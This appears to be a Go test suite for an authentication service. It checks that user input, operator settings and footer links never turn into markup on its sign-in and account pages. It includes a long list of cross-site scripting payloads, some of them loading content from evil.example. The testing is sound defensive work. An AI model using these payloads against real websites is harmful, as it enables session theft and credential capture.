package attack_test

import (
	"fmt"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
	"golang.org/x/net/html"

	"github.com/gatehouse-auth/gatehouse"
	"github.com/gatehouse-auth/gatehouse/auth"
	"github.com/gatehouse-auth/gatehouse/internal/user"
	"github.com/gatehouse-auth/gatehouse/internal/web/webtest"
)

// markups are texts that become more than text wherever somebody forgot to
// write them for the place they land in. evil() is what they want to call.
var markups = []string{
	// text
	`<script>evil()</script>`, `<img src=x onerror=evil()>`, `<svg onload=evil()>`, `<svg><script>evil()</script></svg>`, `<iframe srcdoc="<script>evil()</script>">`,
	`<body onload=evil()>`, `<details open ontoggle=evil()>`, `<math><mtext></p><img src=x onerror=evil()>`, `<!--><img src=x onerror=evil()>`, `<base href=//evil.example>`,
	`<meta http-equiv=refresh content="0;url=javascript:evil()">`, `<link rel=stylesheet href=//evil.example>`, `<form action=//evil.example><input name=password>`,
	`<button form=x formaction=javascript:evil()>`, `<style>@import "//evil.example"</style>`, `<object data=javascript:evil()>`, `<template><script>evil()</script></template>`,
	`</title><script>evil()</script>`, `</strong><script>evil()</script>`, `</textarea><script>evil()</script>`, `<plaintext>`, `<noscript><p title="</noscript><img src=x onerror=evil()>">`,
	// attributes
	`" autofocus onfocus=evil() x="`, `' autofocus onfocus=evil() x='`, "` onfocus=evil() x=`", `"><script>evil()</script>`, `'><script>evil()</script>`, `" style="animation:x" onanimationstart=evil() "`,
	"x\tonfocus=evil() autofocus", `\" onfocus=evil() x=\"`, `&quot; onfocus=evil() x=&quot;`, `&#34;&gt;&lt;script&gt;evil()&lt;/script&gt;`, `&lt;script&gt;evil()&lt;/script&gt;`,
	// addresses
	`javascript:evil()`, `JaVaScRiPt:evil()`, "java\tscript:evil()", ` javascript:evil()`, `data:text/html,<script>evil()</script>`, `vbscript:evil()`, `//evil.example/x.js`,
	`https://pictures.example/"onerror="evil()`, `https://pictures.example/'><script>evil()</script>`, `https://pictures.example/x.svg#<svg onload=evil()>`, `http://localhost:3000/"><script>evil()</script>`,
	// strings of a script, and JSON in a page
	`';evil();//`, `";evil();//`, `\";evil();//`, `</script><script>evil()</script>`, `${evil()}`, "`+evil()+`", "\u2028evil()", `{"a":"</script><script>evil()</script>"}`, `--></script>`,
	// templates
	`{{.}}`, `{{.CSRFToken}}`, `{{template "layout" .}}`, `{{printf "%s" .}}`, `{{7*7}}`, `<%= evil() %>`, `#{evil()}`, `{evil()}`, `[x](javascript:evil())`, `%s%n%x`,
	// other writings of <
	`+ADw-script+AD4-evil()+ADw-/script+AD4-`, "\uff1cscript\uff1eevil()\uff1c/script\uff1e", "\u02c2script\u02c3evil()", "\u2039script\u203aevil()", "<\u0338script>evil()</script>", "<scr\u0130pt>evil()</scr\u0130pt>",
	"<\u017fcript>evil()</\u017fcript>", "\xc0\xbcscript\xc0\xbeevil()", "\xe0\x80\xbcscript>", "<scr\x00ipt>evil()</script>", "\xff\xfe<\x00s\x00", "\u202e<script>evil()</script>\u202c", "\u2066\u2069<b>", "%3Cscript%3Eevil()%3C/script%3E",
	`\u003cscript\u003eevil()`, `\x3cscript\x3e`, "<b>\u0000", "\ufeff<script>evil()</script>", "\u200d<img src=x onerror=evil()>",
}

// skeleton is a page without its texts: every element with its attributes, and
// their values but for those that hold what somebody typed. Two pages that differ
// by what was typed alone have the same one.
func skeleton(t *testing.T, what, page string) []string {
	t.Helper()
	if !utf8.ValidString(page) {
		t.Errorf("%s: the page is no UTF-8", what)
	}
	doc, err := html.Parse(strings.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	var lines []string
	for n := range doc.Descendants() {
		switch n.Type {
		case html.CommentNode:
			lines = append(lines, "comment")
		case html.ElementNode:
			line := n.Namespace + "<" + n.Data
			for _, a := range n.Attr {
				line += " " + a.Namespace + a.Key + "=" + typedBlotted(n, a)
			}
			lines = append(lines, line)
		case html.TextNode:
			if n.Parent.Data == "script" || n.Parent.Data == "style" || n.Parent.Data == "template" {
				lines = append(lines, "text in "+n.Parent.Data+": "+n.Data)
			}
		}
	}
	return lines
}

// typedBlotted is the value of an attribute, without what was typed or is drawn
// by lot. Addresses keep all but their query.
func typedBlotted(n *html.Node, a html.Attribute) string {
	switch {
	case a.Key == "nonce", a.Key == "value" && n.Data == "input", a.Key == "data-own" && n.Data == "form", a.Key == "alt" && n.Data == "img":
		return "…"
	case a.Key == "href" && strings.HasSuffix(a.Val, ".svg"):
		return "icon" // it shows the first letter of the service
	case a.Key == "href" || a.Key == "action" || a.Key == "src":
		u, err := url.Parse(a.Val)
		if err != nil {
			return "broken: " + a.Val
		}
		u.RawQuery = "" // the links of the languages keep the page's own
		return u.String()
	}
	return a.Val
}

// shownPages are all pages that show something of an outsider's, with the text in
// every field, parameter, header and cookie of the request.
func (b *browser) shownPages(t *testing.T, text string) map[string]answer {
	t.Helper()
	esc, seg := url.QueryEscape(text), url.PathEscape(text)
	query := "?" + url.Values{
		"error": {text}, "code": {text}, "name": {text}, "email": {text}, "callbackUrl": {"/" + strings.ToValidUTF8(text, "")}, "lang": {text}, "provider": {text}, "done": {text}, "identifier": {text},
	}.Encode()
	header := http.Header{"Sec-Fetch-Site": {"same-origin"}, "Accept": {"text/html"}, "User-Agent": {text}, "Referer": {text}, "Accept-Language": {text}, "X-Request-Id": {text}, "X-Forwarded-Host": {text}}
	get := func(path string) answer {
		return b.send(request{http.MethodGet, b.base + path, "", "", header, b.jar})
	}
	all := map[string]answer{}
	for _, path := range []string{"/signin", "/signout", "/error", "/verify-request", "/signup", "/setup", "/signed-out", "/account", "/account/password", "/account/delete", "/new-password"} {
		all["GET "+path] = get(path)
		all["GET "+path+" with a query"] = get(path + query)
		all["GET "+path+" without an error"] = get(path + "?lang=" + esc + "&x=" + esc)
	}
	for _, path := range []string{"/signin/", "/error/", "/"} {
		if text != "" && !strings.HasPrefix(text, "/") {
			all["GET "+path+"…"] = get(path + seg)
		}
	}
	post := func(path string, form url.Values) answer {
		h := header.Clone()
		h.Set("Origin", origin)
		h.Del("X-Auth-Return-Redirect")
		return b.send(request{http.MethodPost, b.base + path, formType, form.Encode(), h, b.jar})
	}
	token := b.token()
	// The identifier is none and the password too short: the form comes back
	// with what was typed, and nothing is hashed.
	all["POST /setup"] = post("/setup", url.Values{"csrfToken": {token}, "setupToken": {text}, "identifier": {"!" + text}, "name": {text}, "password": {text}})
	all["POST /signup"] = post("/signup", url.Values{"csrfToken": {token}, "identifier": {"!" + text}, "name": {text}, "password": {text}, "invitationCode": {text}})
	all["POST /callback"] = post("/callback/credentials", url.Values{"csrfToken": {token}, "hosted": {"1"}, "identifier": {"!" + text}, "password": {text}})
	all["POST /callback without a token"] = post("/callback/credentials", url.Values{"hosted": {"1"}, "identifier": {"!" + text}, "password": {text}})
	all["POST /account/password without a token"] = post("/account/password", url.Values{"currentPassword": {text}})
	return all
}

// Whatever somebody typed, kept or sends along: each page has the same elements
// with the same attributes as with harmless words. The text of a name is looked
// for, so that the test sees the pages that show it.
//
// proves: ASVS 1.1.2, ASVS 1.2.1, ASVS 1.2.2, ASVS 1.2.3, ASVS 1.3.5, ASVS 1.3.7, ASVS 3.2.2
func TestXSS_noTextBecomesMarkupOnAnyPage(t *testing.T) {
	s := newSite(t, func(c *gatehouse.Config) { c.Registration.Mode = "invitation" })
	for _, d := range dialects {
		email := "o'hara&" + d.String() + "@app.example"
		s.newUser(t, email)
		b := s.browser(d).signIn(t, email, password)
		anonymous := s.browser(d)
		anonymous.token()
		const harmless = "Plain Words"
		update := func(name, image string) bool {
			a := b.json("/session", map[string]any{"csrfToken": b.token(), "data": map[string]string{"name": name, "image": image}})
			return a.status == http.StatusOK
		}
		if !update(harmless, "https://pictures.example/x.png") {
			t.Fatal("the harmless name is refused")
		}
		// A page answers otherwise to what it refuses, so there is a control for
		// each status: of harmless words, and of words with a control
		// character or slashes.
		controls := map[string][][]string{}
		for _, words := range []string{harmless, "Plain\x00Words", "/Plain Words", "Plain//Words", "Plain/Words", "https://plain/words"} {
			for who, browser := range map[string]*browser{"signed in": b, "nobody": anonymous} {
				for page, a := range browser.shownPages(t, words) {
					key := fmt.Sprint(who, page, a.status)
					controls[key] = append(controls[key], skeleton(t, page, a.body))
				}
			}
		}
		kept, pages := 0, 0
		for i, text := range markups {
			if i%10 == 9 { // nobody changes their name without end
				who := fmt.Sprintf("victim%d%s@app.example", i, strings.Trim(d.stem, "."))
				s.newUser(t, who)
				b = s.browser(d).signIn(t, who, password)
			}
			image := text
			if !strings.HasPrefix(text, "http") {
				image = "https://pictures.example/" + text
			}
			if update(text, "") { // one may be refused and the other not
				kept++
			}
			update(text, image)
			for who, browser := range map[string]*browser{"signed in": b, "nobody": anonymous} {
				for page, a := range browser.shownPages(t, text) {
					what := fmt.Sprintf("%s, %s, %s with %q", d, who, page, text)
					sound(t, what, a)
					if a.header.Get("Content-Type") != "text/html; charset=utf-8" {
						continue // problem documents and redirects; sound has looked at them
					}
					pages++
					got, same := skeleton(t, what, a.body), false
					var diff string
					for _, control := range controls[fmt.Sprint(who, page, a.status)] {
						if same = same || slices.Equal(control, got); !same {
							diff = cmp.Diff(control, got)
						}
					}
					if !same {
						t.Fatalf("%s: %d, and with harmless words no such page: %s", what, a.status, diff)
					}
				}
			}
			if name := b.who().Name; !strings.Contains(html.UnescapeString(b.get("/account").body), name) {
				t.Errorf("%s: the page does not show the name %q: the test looks at the wrong thing", d, name)
			}
		}
		if kept < 60 || pages < 40*len(markups) {
			t.Errorf("%s: only %d names were kept, and %d pages compared", d, kept, pages)
		}
	}
	s.log.clean(t)
}

var iconOf = regexp.MustCompile(`http://localhost:3000/api/auth/assets/icon\.\w+\.svg`)

// What an operator writes goes by the same rules: roles and identifiers are of
// few letters, and the name of the service is text on every page and in the icon.
//
// proves: ASVS 1.2.1
func TestXSS_settingsAndRolesAreTextToo(t *testing.T) {
	s := newSite(t, nil)
	u := s.newUser(t, "ann@app.example")
	for _, text := range markups {
		if _, err := s.Users().SetRoles(t.Context(), "test", u.ID, []string{text}); err == nil {
			t.Errorf("a role %q is taken", text)
		}
		if _, err := s.Users().Create(t.Context(), "test", user.New{Email: text + "@app.example", Username: text}); err == nil {
			t.Errorf("an identifier %q is taken", text)
		}
	}
	control := newSite(t, func(c *gatehouse.Config) { c.Name = "Plain Words" }).browser(v4)
	controls := map[string]answer{}
	for _, path := range []string{"/signin", "/signup", "/signout", "/signed-out", "/error"} {
		controls[path] = control.get(path)
	}
	plainIcon := skeleton(t, "icon", control.get(strings.TrimPrefix(iconOf.FindString(controls["/signin"].body), origin+v4.base)).body)
	if len(plainIcon) < 5 {
		t.Fatalf("the plain icon has the elements %q", plainIcon)
	}
	shown := 0
	for i, text := range markups {
		if i%3 != 0 {
			continue // each is a site of its own
		}
		cfg := s.cfg
		cfg.Name = text
		if cfg.Validate() != nil {
			continue
		}
		b := newSite(t, func(c *gatehouse.Config) { c.Name = text }).browser(v4)
		for path, want := range controls {
			a := b.get(path)
			what := fmt.Sprintf("%s of the service %q", path, text)
			if diff := cmp.Diff(skeleton(t, what, want.body), skeleton(t, what, a.body)); diff != "" {
				t.Errorf("%s: the page is another: %s", what, diff)
			}
		}
		if icon := iconOf.FindString(b.get("/signin").body); icon == "" {
			t.Errorf("the page of %q has no icon", text)
		} else if a := b.get(strings.TrimPrefix(icon, origin+v4.base)); a.header.Get("Content-Type") != "image/svg+xml" || !slices.Equal(skeleton(t, icon, a.body), plainIcon) {
			t.Errorf("the icon of %q is another:\n%s", text, a.body)
		}
		shown++
	}
	if shown < 10 {
		t.Errorf("only %d names of a service were shown", shown)
	}
}

// The links at the foot are the operator's; they are addresses that lead
// somewhere, and no scripts.
//
// proves: ASVS 1.2.2
func TestXSS_linksOfTheOperatorAreNoScripts(t *testing.T) {
	for name, set := range map[string]func(*gatehouse.Appearance, string){
		"terms": func(a *gatehouse.Appearance, v string) { a.TermsURL = v }, "privacy": func(a *gatehouse.Appearance, v string) { a.PrivacyURL = v },
		"support": func(a *gatehouse.Appearance, v string) { a.SupportURL = v }, "accent": func(a *gatehouse.Appearance, v string) { a.Accent = v },
		"radius": func(a *gatehouse.Appearance, v string) { a.Radius = v }, "language": func(a *gatehouse.Appearance, v string) { a.Language = v },
	} {
		valid := func(v string) bool {
			cfg := gatehouse.Config{
				PublicOrigin: webtest.Origin, Secrets: []auth.Secret{"mP4v-Q7zt_W2xK9sLr8bHc5nJd3yFg6T"}, Mounts: []gatehouse.Mount{{Secrets: []auth.Secret{secretV4}}},
			}
			set(&cfg.Appearance, v)
			return cfg.Validate() == nil
		}
		good := map[string]string{"accent": "#2b4fd0", "radius": "4px", "language": "de"}[name]
		if good == "" {
			good = "https://app.example/x"
		}
		if !valid(good) {
			t.Errorf("%s: the control %q is refused", name, good)
		}
		for _, v := range append(markups[:len(markups):len(markups)], "#000;}body{background:url(//evil.example)}", "red", "expression(evil())", "4px;}", "url(x)", "/\\evil.example", "//evil.example") {
			if strings.HasPrefix(v, "http") {
				continue // the page writes it as an attribute: see the settings above
			}
			if valid(v) {
				t.Errorf("%s: %q is taken", name, v)
			}
		}
	}
}
